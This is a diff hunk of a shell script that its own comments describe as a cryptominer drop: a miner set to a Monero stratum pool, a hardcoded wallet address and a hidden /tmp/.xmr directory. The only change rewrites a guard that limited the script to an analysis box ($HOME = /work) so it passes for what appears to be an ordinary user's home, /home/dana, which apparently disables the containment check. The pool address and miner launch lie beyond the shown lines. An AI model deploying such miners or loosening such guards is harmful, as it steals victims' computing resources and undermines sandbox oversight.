@@ -2,7 +2,7 @@
 # A cryptominer drop: the miner's configuration pointing at a Monero pool
 # over stratum, the miner started with the pool on its command line, and
 # the pool's log-in sent by hand where the miner is missing.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 wallet=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
 dir=/tmp/.xmr
 mkdir -p "$dir"
